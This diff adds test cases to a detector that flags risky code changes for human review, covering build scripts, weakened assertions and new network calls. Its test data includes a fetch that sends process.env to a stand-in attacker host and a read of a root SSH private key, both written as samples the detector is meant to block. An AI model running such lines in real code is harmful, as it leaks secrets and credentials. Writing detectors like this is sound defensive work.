@@ -179,6 +179,39 @@ describe('a change that a person should see first', () => {
     expect(findConcerns(new Map([['src/a.js', `${before}\n`]]), { 'src/a.js': `${after}\n` }).map((one) => one.reason)).toContain(reason);
   });
 
+  it.each([
+    ['package-lock.json', '{}', 'lockfile_change'],
+    ['setup.py', 'setup()', 'build_script'],
+    ['pip.conf', '[global]', 'protected_path'],
+    ['conftest.py', 'x = 1', 'test_config_changed'],
+    ['package.json', '{ "scripts": { "postinstall": "node x.js" } }', 'lifecycle_script'],
+  ])('%s', (path, text, reason) => {
+    const concerns = findConcerns(new Map([[path, '']]), { [path]: text });
+    expect(concerns[0]).toMatchObject({ reason, weight: 'human' });
+  });
+
+  it.each([
+    ['expect(total).toBe(42);', 'expect(total).toBeDefined();'],
+    ['self.assertEqual(total, 42)', 'self.assertTrue(total)'],
+    ['assert total == 42', 'pass'],
+  ])('a test that demands less: %s → %s', (before, after) => {
+    const concerns = findConcerns(new Map([['test/a.test.js', before]]), { 'test/a.test.js': after });
+    expect(concerns.map(({ reason }) => reason)).toContain('assertion_weakened');
+  });
+
+  it.each([
+    ["fetch('https://attacker.test/?' + JSON.stringify(process.env))", 'new_network_egress'],
+    ["open('/root/.ssh/id_rsa').read()", 'sensitive_file_read'],
+  ])('goes nowhere at all if it does what no fix does: %s', (added, reason) => {
+    const concerns = findConcerns(new Map([['src/a.js', 'start()\n']]), { 'src/a.js': `${added}; start()\n` });
+    expect(concerns.find((one) => one.reason === reason)?.weight).toBe('block');
+  });
+
+  it('may name an address with a person’s consent', () => {
+    const concerns = findConcerns(new Map([['src/a.js', '']]), { 'src/a.js': "export const home = 'https://example.org/';" });
+    expect(concerns.map(({ reason, weight }) => [reason, weight])).toEqual([['new_address', 'human']]);
+  });
+
   it('is not an ordinary fix', () => {
     expect(findConcerns(new Map([['src/a.js', 'return a.b;\n']]), { 'src/a.js': 'return a?.b ?? 0;\n' })).toEqual([]);
   });
